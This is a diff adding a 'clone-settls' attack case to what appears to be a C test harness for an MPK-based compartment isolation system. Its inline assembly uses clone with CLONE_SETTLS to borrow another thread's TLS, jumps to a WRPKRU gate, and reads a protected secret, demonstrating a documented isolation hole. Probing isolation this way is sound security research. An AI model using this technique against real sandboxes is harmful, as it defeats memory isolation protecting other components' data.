@@ -54,6 +54,8 @@
  *   attack --thread-claim  a thread app starts past the pthread_create
  *                        wrapper jumps to the gate page's opening WRPKRU
  *                        with lib1's open PKRU: a report, never lib1's data
+ *   attack --clone-settls  lib1 clones a thread with the TLS of an app
+ *                        thread: it gets app's rights (limit 2, what remains)
  *   attack --sig-entry gate|stub|past-check  app runs lib1's signal handler
  *                        without a signal: a gate call with the signal
  *                        entry index, or a call of the delivery stub: a
@@ -70,12 +72,14 @@
 #include <errno.h>
 #include <execinfo.h>
 #include <pthread.h>
+#include <linux/sched.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
 #include <signal.h>
 #include <ucontext.h>
 #include <sys/mman.h>
+#include <sys/syscall.h>
 #include <sys/ptrace.h>
 #include <sys/user.h>
 #include <sys/wait.h>
@@ -1461,6 +1465,110 @@ static int tls_live(void)
 }
 
 /*
+ * clone-settls: what remains of limit 2. lib1 (app's function run as a
+ * plain pointer by lib1_call, with lib1's PKRU) makes a thread with a raw
+ * clone(CLONE_SETTLS) whose TLS, so FS base, is app's parked thread's:
+ * the child finds that thread's gate page through the shared TLS, passes
+ * the owner check (RDFSBASE says the same), and jumps to the WRPKRU that
+ * opens the page in the handler table's writer with app's open PKRU. No
+ * registration helps: the page is the parked thread's, bound long ago.
+ * Returns 0 when the child read app's data (the documented hole).
+ */
+static int settls_secret = 4242;
+static volatile long settls_read FLEXOS_SHARED;
+static volatile int settls_done FLEXOS_SHARED;
+static volatile uintptr_t victim_fs FLEXOS_SHARED;
+static char settls_stack[65536] FLEXOS_SHARED __attribute__((aligned(16)));
+
+__attribute__((used, noinline)) static void settls_child(void)
+{
+	uint32_t open = flexos__mpk_pkru[1024 / 4 + 0]; /* app's open PKRU */
+	uintptr_t target = (uintptr_t)flexos__mpk_sig_open_checked - 3;
+
+	__asm__ volatile("leaq 1f(%%rip), %%rax\n\t"
+			 "pushq %%rax\n\t"
+			 "movl %0, %%eax\n\t"
+			 "xorl %%ecx, %%ecx\n\t"
+			 "xorl %%edx, %%edx\n\t"
+			 "xorl %%edi, %%edi\n\t"
+			 "xorl %%esi, %%esi\n\t"
+			 "jmp *%1\n"
+			 "1:"
+			 :
+			 : "r"(open), "r"(target)
+			 : "rax", "rcx", "rdx", "rdi", "rsi", "r8", "r9", "r10", "r11", "memory", "cc");
+	settls_read = *(volatile int *)&settls_secret;
+	__atomic_store_n(&settls_done, 1, __ATOMIC_RELEASE);
+	__asm__ volatile("syscall" : : "a"(SYS_exit), "D"(0) : "rcx", "r11", "memory");
+	__builtin_unreachable();
+}
+
+static long settls_from_lib1(long x)
+{
+	register long r10 __asm__("r10") = 0;
+	register long r8 __asm__("r8") = (long)victim_fs;
+	unsigned long flags = CLONE_VM | CLONE_FS | CLONE_FILES | CLONE_SIGHAND | CLONE_THREAD |
+			      CLONE_SYSVSEM | CLONE_SETTLS;
+	long ret;
+
+	__asm__ volatile("syscall\n\t"
+			 "testq %%rax, %%rax\n\t"
+			 "jnz 1f\n\t"
+			 "call settls_child\n\t"
+			 "ud2\n"
+			 "1:"
+			 : "=a"(ret)
+			 : "0"((long)SYS_clone), "D"(flags), "S"(settls_stack + sizeof(settls_stack)),
+			   "d"(0), "r"(r10), "r"(r8)
+			 : "rcx", "r11", "memory");
+	if (ret < 0)
+		return ret;
+	while (!__atomic_load_n(&settls_done, __ATOMIC_ACQUIRE))
+		usleep(1000);
+	return x;
+}
+
+static long park_cb_fs(long x)
+{
+	victim_fs = (uintptr_t)pthread_self();
+	return park_cb(x);
+}
+
+static void *park_thread_fs(void *arg)
+{
+	long r = 0;
+
+	(void)arg;
+	flexos_gate_r(lib1, r, lib1_call, flexos_callback(app, park_cb_fs), 1);
+	return (void *)r;
+}
+
+static int clone_settls(void)
+{
+	pthread_t t;
+	long r = 0;
+
+	if (pthread_create(&t, NULL, park_thread_fs, NULL))
+		return 1;
+	while (!__atomic_load_n(&parked, __ATOMIC_ACQUIRE))
+		usleep(1000);
+	printf("clone-settls: lib1 clones a thread with the TLS of app's thread parked in app "
+	       "(FS base %#lx)\n",
+	       (unsigned long)victim_fs);
+	fflush(stdout);
+	flexos_gate_r(lib1, r, lib1_call, settls_from_lib1, 5);
+	if (r != 7) { /* lib1_call: cb(x + 1) + 1 */
+		printf("clone-settls: clone failed (%ld)\n", r - 1);
+		return 1;
+	}
+	printf("clone-settls: lib1's thread read app's data %ld%s\n", (long)settls_read,
+	       settls_read == 4242 ? ": what remains (limit 2): it passes the owner check" : "");
+	__atomic_store_n(&unpark, 1, __ATOMIC_RELEASE);
+	pthread_join(t, NULL);
+	return settls_read != 4242;
+}
+
+/*
  * app -> lib1 -> app_tamper: where app comes back, and with what. The
  * harmless cases (tls-null, id) must come back to app with lib1_call's
  * result; the others must end in a report before anything runs with
@@ -1527,6 +1635,8 @@ int main(int argc, char **argv)
 		return signal_tamper(argv[2]);
 	if (argc == 3 && !strcmp(argv[1], "--sigreturn"))
 		return sigreturn_attack(argv[2]);
+	if (argc == 2 && !strcmp(argv[1], "--clone-settls"))
+		return clone_settls();
 	if (argc == 2 && !strcmp(argv[1], "--thread-claim"))
 		return thread_claim();
 	if (argc == 3 && !strcmp(argv[1], "--sig-entry"))
@@ -1550,7 +1660,7 @@ int main(int argc, char **argv)
 			"--segv-call entry|c CODE | --violation-call | --signal | "
 			"--signal-lib own|secret | --signal-tamper app|lib1|munmap | "
 			"--sigreturn direct|tramp|syscall|tramp-bv|own|nonce-wrpkru|race|window | "
-			"--thread-claim | --sig-entry gate|stub|past-check | "
+			"--thread-claim | --clone-settls | --sig-entry gate|stub|past-check | "
 			"--gate-state tls-fake|tls-other|tls-null|tls-live|cur|sp|id | "
 			"--forge-target private|shared|newlib HOW | --start-main-from-lib1 | "
 			"--backtrace [fault] | --sched-record none|sp|comp|rec|rec-free | "
